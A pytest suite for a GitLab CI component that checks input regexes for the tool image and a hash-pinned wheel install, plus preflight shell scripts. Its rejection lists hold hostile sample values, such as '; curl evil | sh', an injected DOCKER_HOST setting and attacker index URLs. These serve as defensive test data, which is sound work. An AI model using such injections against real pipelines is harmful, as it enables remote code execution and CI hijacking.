"""The tool the merge and verify jobs run: archfleet_image's default (a placeholder GitLab refuses
until publish-templates renders the tool image), the archfleet_install hatch (one wheel pinned by
sha256, nothing by name), and the preflight's version check — the regexes as GitLab checks them
(tests/support/gitlab_inputs.py, a stand-in: gitlab-ci-local ignores `regex:`), the job scripts
in dash and busybox ash."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.support.gitlab_inputs import ENGINE, input_errors, regex_matches
from toolkit import __version__
from toolkit.ci_templates import (
    COMPONENT_PATH,
    COMPONENT_VERSION,
    IMAGE_REFERENCE_REGEX,
    INCLUDE_PATH,
    INSTALL_REGEX,
    PREFLIGHT_STAGE,
    README_PATH,
    TOOL_LOCK_PATH,
    UNPUBLISHED_TOOL_IMAGE,
    Flavour,
    TemplateError,
    default_root,
    input_named,
    jobs,
    load_rendered,
    published_files,
    render_all,
    render_tool_image_default,
    resolve_references,
    shell_library,
    tool_lock,
)

ROOT = default_root()
HEX = "0123456789abcdef" * 4
OTHER_HEX = "f" * 64
DIGEST = f"sha256:{HEX}"
REGISTRY_PATH = "registry.example.com/platform/archfleet-ci"
TOOL_IMAGE = f"{REGISTRY_PATH}/archfleet:{__version__}@{DIGEST}"
WHEEL_URL = f"https://files.example.com/archfleet/archfleet-{__version__}-py3-none-any.whl"
PINNED = f"{WHEEL_URL} --hash=sha256:{HEX}"


def spec_inputs(text: str) -> dict[str, Any]:
    header = next(yaml.safe_load_all(text))
    inputs: dict[str, Any] = header["spec"]["inputs"]
    return inputs


def committed_spec() -> dict[str, Any]:
    return spec_inputs((ROOT / COMPONENT_PATH).read_text(encoding="utf-8"))


# --- archfleet_image: the default -----------------------------------------------------------


def test_version_is_the_packages() -> None:
    assert __version__ == COMPONENT_VERSION
    library = shell_library(ROOT, ["tool"])
    assert f"ARCHFLEET_COMPONENT_VERSION={__version__}\n" in library


def test_unpublished_default_is_refused_by_gitlab_at_pipeline_creation() -> None:
    spec = committed_spec()["archfleet_image"]
    assert spec["default"] == UNPUBLISHED_TOOL_IMAGE
    # GitLab checks the default against the regex too (string_input.rb), engine: ENGINE.
    assert input_errors("archfleet_image", spec) == [
        "`archfleet_image` input: default value does not match required RegEx pattern"
    ], ENGINE
    # Given an image, the pipeline is created.
    assert input_errors("archfleet_image", spec, TOOL_IMAGE) == []
    # And the placeholder is no image reference any client would pull (upper case).
    assert any(char.isupper() for char in UNPUBLISHED_TOOL_IMAGE)


def test_no_default_installs_anything() -> None:
    spec = committed_spec()
    assert spec["archfleet_install"]["default"] == ""
    assert input_errors("archfleet_install", spec["archfleet_install"]) == []
    [include] = load_rendered((ROOT / INCLUDE_PATH).read_text(encoding="utf-8"))
    assert include["variables"]["ARCHFLEET_INSTALL"] == ""
    assert include["variables"]["ARCHFLEET_MERGE_IMAGE"] == UNPUBLISHED_TOOL_IMAGE
    # pip appears in the jobs only inside the hatch's function, which runs only when
    # ARCHFLEET_INSTALL is set.
    for flavour in (Flavour(component=True), Flavour(component=False)):
        for name, job in resolve_references(jobs(ROOT, flavour)).items():
            script = "\n".join(job.get("script", []))
            hatch = re.search(r"\narchfleet_install_tool\(\) \{\n.*?\n\}\n", script, re.S)
            outside = script.replace(hatch.group(0), "") if hatch else script
            code = [line for line in outside.splitlines() if not line.lstrip().startswith("#")]
            assert not [line for line in code if re.search(r"\bpip\b", line)], name
            if hatch:
                assert 'if [ -n "${ARCHFLEET_INSTALL:-}" ]; then\n    archfleet_install_tool' in (
                    outside
                )


@pytest.mark.parametrize(
    "image",
    [
        TOOL_IMAGE,
        f"{REGISTRY_PATH}/archfleet:{__version__}",
        "registry.example.com:5050/platform/archfleet-ci/archfleet:0.1.0",
        "localhost:5000/archfleet:0.1.0",
        "$CI_REGISTRY/platform/archfleet-ci/archfleet:0.1.0",
        "${CI_REGISTRY_IMAGE}/archfleet:0.1.0",
        "python:3.12-slim",
        f"archfleet@{DIGEST}",
    ],
)
def test_image_regex_takes_image_references(image: str) -> None:
    assert regex_matches(IMAGE_REFERENCE_REGEX, image), (image, ENGINE)


@pytest.mark.parametrize(
    "image",
    [
        UNPUBLISHED_TOOL_IMAGE,
        "",
        "Registry.example.com/Platform/archfleet:1",
        "python:3.12-slim\nvariables: {DOCKER_HOST: tcp://evil:2375}",
        "python:3.12-slim\n",
        "python:3.12 slim",
        "python:'3.12'",
        f"archfleet@sha256:{HEX[:63]}",
        "archfleet:-bad",
    ],
)
def test_image_regex_refuses_what_is_no_image_reference(image: str) -> None:
    assert not regex_matches(IMAGE_REFERENCE_REGEX, image), (image, ENGINE)


# --- the published rendering ----------------------------------------------------------------


def test_render_tool_image_default() -> None:
    assert render_tool_image_default(REGISTRY_PATH, __version__) == (
        f"{REGISTRY_PATH}/archfleet:{__version__}"
    )
    assert render_tool_image_default(REGISTRY_PATH, __version__, DIGEST) == TOOL_IMAGE
    assert render_tool_image_default("localhost:5000/a/b", __version__).startswith("localhost")


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("registry.example.com", __version__), r"expected REGISTRY/PATH"),
        (("registry.example.com/Platform/x", __version__), r"lower-case path"),
        (("https://registry.example.com/a", __version__), r"expected REGISTRY/PATH"),
        ((REGISTRY_PATH, "v1.0.0"), r"expected a semantic version"),
        ((REGISTRY_PATH, "9.9.9"), rf"these templates are archfleet {re.escape(__version__)}"),
        ((REGISTRY_PATH, __version__, HEX), r"digest .*: expected sha256:<64"),
        ((REGISTRY_PATH, __version__, f"sha256:{HEX.upper()}"), r"expected sha256:<64"),
    ],
)
def test_render_tool_image_default_refuses(args: tuple[str, ...], message: str) -> None:
    with pytest.raises(TemplateError, match=message):
        render_tool_image_default(*args)


def test_published_files_carry_the_tool_image() -> None:
    committed = published_files(ROOT)
    published = published_files(ROOT, tool_image=TOOL_IMAGE)
    assert set(published) == set(committed)
    assert spec_inputs(published[COMPONENT_PATH])["archfleet_image"]["default"] == TOOL_IMAGE
    assert (
        input_errors("archfleet_image", spec_inputs(published[COMPONENT_PATH])["archfleet_image"])
        == []
    )
    [include] = load_rendered(published[INCLUDE_PATH])
    assert include["variables"]["ARCHFLEET_MERGE_IMAGE"] == TOOL_IMAGE
    assert f"| `archfleet_image` | string | `{TOOL_IMAGE}` |" in published[README_PATH]
    # Nothing else changes: the placeholder was the only difference.
    for path, text in published.items():
        assert text.replace(TOOL_IMAGE, UNPUBLISHED_TOOL_IMAGE) == committed[path], path
    with pytest.raises(TemplateError, match="expected an image reference"):
        render_all(ROOT, tool_image=UNPUBLISHED_TOOL_IMAGE)
    with pytest.raises(TemplateError, match="expected an image reference"):
        render_all(ROOT, tool_image="python:3.12 slim")


# --- archfleet_install: the hatch, pinned -----------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "",
        PINNED,
        f"https://127.0.0.1:8443/archfleet-{__version__}-py3-none-any.whl --hash=sha256:{HEX}",
        f"vendor/wheels/archfleet-{__version__}-py3-none-any.whl --hash=sha256:{HEX}",
        f"archfleet-{__version__}-py3-none-any.whl --hash=sha256:{HEX}",
    ],
)
def test_install_regex_takes_pinned_wheels(value: str) -> None:
    assert input_errors("archfleet_install", committed_spec()["archfleet_install"], value) == []


UNPINNED = [
    "archfleet",
    f"archfleet=={__version__}",
    f"pip install --quiet --disable-pip-version-check archfleet=={__version__}",  # the old one
    WHEEL_URL,
    f"archfleet=={__version__} --hash=sha256:{HEX}",  # a name: resolved by an index
    f"archfleet @ {WHEEL_URL} --hash=sha256:{HEX}",
    f"{WHEEL_URL.replace('https', 'http')} --hash=sha256:{HEX}",
    f"https://user:glpat-secret@files.example.com/archfleet-{__version__}-py3-none-any.whl"
    f" --hash=sha256:{HEX}",
    f"{WHEEL_URL} --hash=sha256:{HEX[:63]}",
    f"{WHEEL_URL} --hash=sha256:{HEX.upper()}",
    f"{WHEEL_URL} --hash=md5:{HEX[:32]}",
    f"{PINNED}\narchfleet",
    f"{PINNED}; curl evil | sh",
    f"--index-url https://evil.example.com/simple {PINNED}",
    f"-r https://evil.example.com/requirements.txt {PINNED}",
    f"../archfleet-{__version__}-py3-none-any.whl --hash=sha256:{HEX}",
    f"https://files.example.com/other-{__version__}-py3-none-any.whl --hash=sha256:{HEX}",
    f"https://files.example.com/archfleet-{__version__}.tar.gz --hash=sha256:{HEX}",
]


@pytest.mark.parametrize("value", UNPINNED)
def test_install_regex_refuses_anything_unpinned(value: str) -> None:
    assert input_errors("archfleet_install", committed_spec()["archfleet_install"], value) == [
        "`archfleet_install` input: provided value does not match required RegEx pattern"
    ], ENGINE


def test_tool_lock_is_the_image_lock_and_pinned(tmp_path: Path) -> None:
    lock = tool_lock(ROOT)
    text = (ROOT / TOOL_LOCK_PATH).read_text(encoding="utf-8")
    assert {line.split()[0] for line in lock} == set(
        re.findall(r"^([A-Za-z0-9_.-]+==\S+)", text, re.M)
    )
    for line in lock:
        name, *options = line.split()
        assert "==" in name and options
        assert all(re.fullmatch(r"--hash=sha256:[0-9a-f]{64}", o) for o in options)
    (tmp_path / "image").mkdir()
    bad = tmp_path / TOOL_LOCK_PATH
    bad.write_text(f"# lock\ninvoke==2.2.1 \\\n    --hash=sha256:{HEX}\nurllib3>=2\n")
    with pytest.raises(TemplateError, match=r"requirements.txt:4: expected `name==version"):
        tool_lock(tmp_path)
    bad.write_text("# nothing\n")
    with pytest.raises(TemplateError, match=r"no requirement"):
        tool_lock(tmp_path)


# --- the job scripts ------------------------------------------------------------------------


def _shells() -> list[list[str]]:
    shells = [["sh"]]
    busybox = shutil.which("busybox")
    cached = Path(os.environ.get("ARCHFLEET_CACHE", Path.home() / ".cache" / "archfleet"))
    candidate = cached / "busybox" / "amd64" / "bin" / "busybox"
    if busybox is None and candidate.is_file():
        busybox = str(candidate)
    if busybox:
        shells.append([busybox, "sh"])
    return shells


@pytest.fixture(params=_shells(), ids=lambda s: os.path.basename(s[0]))
def shell(request: pytest.FixtureRequest) -> list[str]:
    chosen: list[str] = request.param
    return chosen


def run_tool(
    shell: list[str], script: str, env: Mapping[str, str], bin_dir: Path
) -> subprocess.CompletedProcess[str]:
    """The preflight job's functions, with `bin_dir` (fakes) first on a minimal PATH."""
    library = shell_library(ROOT, ("common", "tool"))
    return subprocess.run(
        [*shell, "-c", f"{library}\n{script}"],
        env={"PATH": f"{bin_dir}:/usr/bin:/bin", "TMPDIR": str(bin_dir.parent), **env},
        capture_output=True,
        text=True,
        check=False,
        timeout=30,
    )


def fake(bin_dir: Path, name: str, body: str) -> None:
    bin_dir.mkdir(exist_ok=True)
    (bin_dir / name).write_text(f"#!/bin/sh\n{body}\n")
    (bin_dir / name).chmod(0o755)


def recording_python(bin_dir: Path, record: Path) -> None:
    """A FAKE python3: records its arguments (one JSON list a call) and, for pip, the
    requirements file it was given; creates the venv's bin/ for `-m venv`."""
    fake(
        bin_dir,
        "python3",
        f"""printf '%s\\n' "$*" >> {record}
if [ "$1 $2" = "-m venv" ]; then eval "dir=\\${{$#}}"; mkdir -p "$dir/bin"; fi
if [ "$1 $2" = "-m pip" ]; then
  while [ $# -gt 1 ]; do [ "$1" = -r ] && cp "$2" {record}.requirements; shift; done
fi""",
    )


@pytest.mark.parametrize("value", [*(v for v in UNPINNED if "\n" not in v), f"{PINNED}\nx"])
def test_install_refuses_unpinned_before_running_pip(
    shell: list[str], tmp_path: Path, value: str
) -> None:
    bin_dir = tmp_path / "bin"
    record = tmp_path / "python-calls"
    recording_python(bin_dir, record)
    done = run_tool(shell, "archfleet_preflight; echo after", {"ARCHFLEET_INSTALL": value}, bin_dir)
    assert done.returncode == 1 and "after" not in done.stdout
    assert "archfleet: error: archfleet_install (ARCHFLEET_INSTALL)" in done.stderr
    assert "Expected one archfleet wheel pinned by its sha256" in done.stderr
    if "--hash=sha256:" not in value:
        assert "a package name, or a wheel without its hash, is never installed" in done.stderr
    assert not record.exists()  # neither pip nor venv ran
    assert "glpat-secret" not in done.stderr  # the value is never echoed


def test_install_runs_pip_in_hash_checking_mode(shell: list[str], tmp_path: Path) -> None:
    bin_dir = tmp_path / "bin"
    record = tmp_path / "python-calls"
    recording_python(bin_dir, record)
    done = run_tool(
        shell,
        'archfleet_ensure_archfleet; echo "PATH=$PATH"',
        {"ARCHFLEET_INSTALL": PINNED},
        bin_dir,
    )
    # The fake pip installs nothing: archfleet is then missing, and the job says so.
    assert done.returncode == 1
    assert "archfleet is not on PATH" in done.stderr
    venv, pip = record.read_text().splitlines()
    assert venv.startswith("-m venv --without-pip ") and venv.endswith("/venv")
    tool_dir = venv.split()[-1].removesuffix("/venv")
    assert pip.split() == [
        "-m",
        "pip",
        "--python",
        f"{tool_dir}/venv/bin/python",
        "install",
        "--require-hashes",
        "--only-binary",
        ":all:",
        "--no-input",
        "--disable-pip-version-check",
        "--quiet",
        "-r",
        f"{tool_dir}/requirements.txt",
    ]
    # The component's lock, then the one wheel: every line pinned by hash.
    requirements = (tmp_path / "python-calls.requirements").read_text().splitlines()
    assert requirements == [*tool_lock(ROOT), PINNED]
    # The job-private directory is gone when the shell exits.
    assert not Path(tool_dir).exists()


def test_preflight_passes_on_this_version(shell: list[str], tmp_path: Path) -> None:
    bin_dir = tmp_path / "bin"
    fake(bin_dir, "archfleet", f'[ "$1" = --version ] && echo "archfleet {__version__}"')
    done = run_tool(shell, "archfleet_preflight", {"ARCHFLEET_MERGE_IMAGE": TOOL_IMAGE}, bin_dir)
    assert done.returncode == 0, done.stderr
    assert (
        f"preflight: {bin_dir}/archfleet is archfleet {__version__}, as this component expects "
        f"(image {TOOL_IMAGE})"
    ) in done.stderr


@pytest.mark.parametrize("reported", ["archfleet 0.0.9", f"archfleet {__version__}.post1", ""])
def test_preflight_fails_on_another_version(
    shell: list[str], tmp_path: Path, reported: str
) -> None:
    bin_dir = tmp_path / "bin"
    fake(bin_dir, "archfleet", f"echo '{reported}'")
    image = f"{REGISTRY_PATH}/archfleet:0.0.9"
    done = run_tool(
        shell, "archfleet_preflight; echo after", {"ARCHFLEET_MERGE_IMAGE": image}, bin_dir
    )
    assert done.returncode == 1 and "after" not in done.stdout
    other = reported.removeprefix("archfleet ")
    assert (
        f"archfleet: error: version mismatch: this component is archfleet {__version__}, but the "
        f"archfleet in the job image {image} is '{other}'. Set the archfleet_image input "
        f"(ARCHFLEET_MERGE_IMAGE) to the archfleet {__version__} tool image"
    ) in done.stderr
    assert "not published with publish-templates" not in done.stderr


def test_preflight_names_the_unpublished_placeholder(shell: list[str], tmp_path: Path) -> None:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    done = run_tool(
        shell, "archfleet_preflight", {"ARCHFLEET_MERGE_IMAGE": UNPUBLISHED_TOOL_IMAGE}, bin_dir
    )
    assert done.returncode == 1
    assert (
        f"archfleet is not on PATH in the job image {UNPUBLISHED_TOOL_IMAGE}: set the "
        "archfleet_image input"
    ) in done.stderr
    assert "These templates were not published with publish-templates" in done.stderr


def test_a_failing_tool_fails_the_preflight(shell: list[str], tmp_path: Path) -> None:
    bin_dir = tmp_path / "bin"
    fake(bin_dir, "archfleet", "echo 'ModuleNotFoundError: urllib3' >&2; exit 1")
    done = run_tool(shell, "archfleet_preflight", {"ARCHFLEET_MERGE_IMAGE": TOOL_IMAGE}, bin_dir)
    assert done.returncode == 1
    assert "ModuleNotFoundError: urllib3" in done.stderr
    assert f"'archfleet --version' failed in the job image {TOOL_IMAGE}" in done.stderr


# --- the jobs -------------------------------------------------------------------------------


def test_preflight_job_comes_first_and_gates_the_tool_jobs() -> None:
    for flavour in (Flavour(component=True), Flavour(component=False)):
        p = flavour.prefix
        rendered = resolve_references(jobs(ROOT, flavour))
        preflight = rendered[f"{p}-preflight"]
        assert preflight["stage"] == PREFLIGHT_STAGE == ".pre"
        assert preflight["image"] == flavour.value("archfleet_image")
        assert preflight["script"][-2:] == ["archfleet_preflight", "archfleet_check_bases"]
        # In every pipeline the component's jobs are in: only the rules input (as every job).
        assert preflight["rules"] == (
            ["$[[ inputs.rules ]]"] if flavour.component else [{"when": "on_success"}]
        )
        gate = {"job": f"{p}-preflight", "optional": True, "artifacts": False}
        assert gate in rendered[f".{p}-merge"]["needs"]
        assert gate in rendered[f"{p}-verify"]["needs"]
        # Build jobs keep the consumer's stage order (no `needs`): `.pre` runs before them.
        for name, job in rendered.items():
            if name.startswith(f"{p}-build-"):
                assert "needs" not in job, name
        for name in (f"{p}-preflight", f".{p}-merge", f"{p}-verify"):
            assert rendered[name]["image"] == flavour.value("archfleet_image"), name


def test_install_pattern_is_the_input_regex() -> None:
    assert input_named("archfleet_install").regex == INSTALL_REGEX
    assert input_named("archfleet_image").regex == IMAGE_REFERENCE_REGEX
    library = shell_library(ROOT, ["tool"])
    line = next(x for x in library.splitlines() if x.startswith("ARCHFLEET_INSTALL_PATTERN="))
    assert line == f"ARCHFLEET_INSTALL_PATTERN='{INSTALL_REGEX}'"
    # The spec in the component carries both, as written here.
    spec = committed_spec()
    assert spec["archfleet_install"]["regex"] == INSTALL_REGEX
    assert spec["archfleet_image"]["regex"] == IMAGE_REFERENCE_REGEX
    assert json.dumps(INSTALL_REGEX).count("\\\\") == 0  # no escapes RE2 and ERE read apart
